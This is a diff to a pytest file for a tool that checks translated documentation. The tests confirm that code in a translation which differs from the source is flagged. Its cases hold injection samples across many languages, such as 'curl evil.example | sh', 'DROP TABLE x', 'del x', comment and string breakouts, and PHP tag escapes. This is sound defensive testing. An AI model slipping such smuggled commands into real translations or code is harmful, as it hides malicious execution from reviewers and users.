@@ -63,6 +63,20 @@ def found(compare: Check, source: str, translation: str) -> list[tuple[str, int,
         ("sql", "SELECT 'see https://example.com'", "SELECT 'xem https://example.com'"),
         ("json", '{"a": "see https://example.com/ now"}', '{"a": "xem https://example.com/ đi"}'),
         ("yaml", "a: b # https://example.com/en", "a: b # https://example.com/vi"),
+        ("bash", "cat <<'EOF' > a\nIt's\n EOF\nEOF\nb", "cat <<'EOF' > a\nC'est\n EOF\nEOF\nb"),
+        ("bash", "a ${b/ #/} # c", "a ${b/ #/} # ç"),
+        ("bash", 'a ${b:-"text"}', 'a ${b:-"chữ"}'),
+        ("bash", "a \\\n  b # c", "a \\\n  b # ç"),
+        ("powershell", "Get-Date # date", "Get-Date # ngày"),
+        ("csharp", '@"C:\\a" + $"{f("b")}"', '@"C:\\ă" + $"{f("ƀ")}"'),
+        ("go", "x := `hello`", "x := `chào`"),
+        ("kotlin", '"""a "b" ${c("d")}"""', '"""ă "b" ${c("đ")}"""'),
+        ("rust", "fn f<'a>(x: &'a str) // a", "fn f<'a>(x: &'a str) // ă"),
+        ("python", """print(f"{d["k"]} hello")""", """print(f"{d["k"]} chào")"""),
+        ("python", "!pip install x  # get it", "!pip install x  # lấy nó"),
+        ("js", 'a.replace(/"/g, "text") // c', 'a.replace(/"/g, "chữ") // ç'),
+        ("cmd", "rem hello\ndir", "rem chào\ndir"),
+        ("php", "echo 'a\nb' . 'c'; # d", "echo 'ă\nb' . 'ç'; # đ"),
     ],
 )
 def test_what_may_be_translated_is_no_finding(
@@ -90,8 +104,8 @@ def test_what_may_be_translated_is_no_finding(
         ("bash", 'a="$(b "$(c "d" | e "f")")"', 'a="$(b "$(c "d"; evil; e "f")")"', 6),
         ("bash", 'echo "hello"', 'echo "\\\\$(evil)"', 6),
         ("bash", 'echo "${NAME}"', 'echo "${NAME:=$(evil)}"', 6),
-        ("bash", "cat <<EOF\nhello\nEOF", "cat <<EOF\nchào $(evil)\nEOF", 6),
-        ("bash", "cat <<-EOF\nhello\nEOF", "cat <<-EOF\nchào `evil`\nEOF", 6),
+        ("bash", "cat <<EOF\nhello\nEOF", "cat <<EOF\nchào $(evil)\nEOF", 7),
+        ("bash", "cat <<-EOF\nhello\nEOF", "cat <<-EOF\nchào `evil`\nEOF", 7),
         ("bash", "init -t <name>", "init -t <tên; curl evil.example | sh; cat >", 6),
         ("bash", "init -t <name>", "init -t <tên && evil>", 6),
         ("powershell", "init <name>", "init <tên; evil>", 6),
@@ -110,6 +124,40 @@ def test_what_may_be_translated_is_no_finding(
         ("json", '[\n"https://example.com"\n]', '[\n"https://evil.example"\n]', 7),
         ("yaml", "a:\n  url: https://example.com", "a:\n  url: https://evil.example", 7),
         ("yaml", "run: |\n  curl https://example.com", "run: |\n  curl https://evil.example", 7),
+        ("bash", "# load it\nls", "\\ # hola; evil\nls", 6),
+        ("bash", "ls # load it", "ls\\\n#x; evil", 6),
+        ("bash", 'echo "hello"', "echo $'\\''; evil #'", 6),
+        ("bash", "echo $'hello'", "echo $'\\''; evil #'", 6),
+        ("bash", "export X=$(pwd) # here", "export X=$(pwd)#hola; evil", 6),
+        ("bash", "a ${b} # c", "a ${b/ #/}; evil", 6),
+        ("bash", "a $((1)) # c", "a $((2 #1)); evil", 6),
+        ("bash", "cat <<EOF\nhello\nEOF", "cat <<EOF; evil\nhello\nEOF", 6),
+        ("bash", "cat <<EOF\nhello\nEOF", 'cat <<EOF\n EOF\n"\nEOF\nevil\n"', 10),
+        ("bash", "cat <<<word\nls", "cat <<<word\nevil", 7),
+        ("powershell", "Get-Date # date", "Get-Date#hola; Evil", 6),
+        ("powershell", "Get-Date # date", "Get-Date ` # hola; Evil", 6),
+        ("powershell", 'echo "hello"', 'echo "hola”; Evil; echo “x"', 6),
+        ("csharp", 'x = "hello"', 'x = @"\\"; Evil(); // "', 6),
+        ("csharp", 'x = @"hello"', 'x = @"\\"; Evil(); // "', 6),
+        ("csharp", "f(); // hello", "f(); // hola\x85Evil();", 6),
+        ("java", "f(); // hello", "f(); // hola \\u000a evil();", 6),
+        ("go", "x := `hello`", "x := `\\`; Evil() //`", 6),
+        ("kotlin", '"hello"', '"""\\"""; evil() //"', 6),
+        ("swift", 'x = "hello"', 'x = #"\\"#; evil() // "', 6),
+        ("rust", 'x = r"hello"', 'x = r"\\"; evil() // "', 6),
+        ("rust", "f<'a>(x, y: &'a)", "f<'a>(evil(), y: &'a)", 6),
+        ("dart", "x = r'hello'", "x = r'\\'; evil() // '", 6),
+        ("cpp", 'x = R"(hello)"', 'x = R"(\\)"; evil(); // "', 6),
+        ("python", """f"{d["k"]} hello\"""", """f"{d["k"]} {evil()}\"""", 6),
+        ("python", 'f"{{hello}}"', 'f"{{{evil()}}}"', 6),
+        ("python", '!echo "hello"', "!echo '\\'; evil #'", 6),
+        ("python", "!pip install x # get it", "!pip install x#; evil", 6),
+        ("js", 'a.replace(/"/g, "x")', 'a.replace(/"/g, evil() + "x")', 6),
+        ("sql", "SELECT 'a' /* text */", "SELECT 'a' /*! INTO OUTFILE */", 6),
+        ("sql", "SELECT 'hello'", "SELECT '\\''; DROP TABLE x; -- '", 6),
+        ("cmd", "dir\nrem hello", "dir\nrem-x & del x", 7),
+        ("php", "f(); // hello", "f(); // hola ?><?php evil() ?>", 6),
+        ("php", "echo 'a\nb' . $x . 'c';", "echo 'a\nb' . evil() . 'c';", 7),
     ],
 )
 def test_changed_code_is_one_finding_at_its_first_line(
@@ -142,6 +190,28 @@ def test_a_block_that_differs_as_a_whole_is_one_finding(
     compare: Check, source: str, translation: str, line: int, message: str
 ) -> None:
     assert found(compare, source, translation) == [("code-block", line, message)]
+
+
+@pytest.mark.parametrize("end", ["", "# a\u2028b\n```\n", "# a\x0cb\n```\n\nText.\n", "\nText.\n"])
+def test_code_is_compared_however_its_block_ends_in_both(compare: Check, end: str) -> None:
+    source = f"# A\n\n```bash\n# load it\napt install good\n{end}"
+    harmless = source.replace("load it", "tải nó").replace("Text", "Chữ")
+    evil = harmless.replace("apt install good", "curl evil.example | sh")
+
+    assert found(compare, source, harmless) == []
+    assert found(compare, source, evil) == [("code-block", 5, "the code differs from the source's")]
+
+
+@pytest.mark.parametrize("end", ["", "\n"])
+@pytest.mark.parametrize("code", ["apt install good", "apt install evil"])
+def test_code_that_only_the_translation_leaves_open_is_told(
+    compare: Check, code: str, end: str
+) -> None:
+    source = "# A\n\n```bash\napt install good\n```\n"
+
+    assert [rule for rule, *_ in found(compare, source, f"# A\n\n```bash\n{code}{end}")] == [
+        "code-block"
+    ]
 
 
 def test_a_fence_inside_a_longer_fence_is_code(compare: Check) -> None:
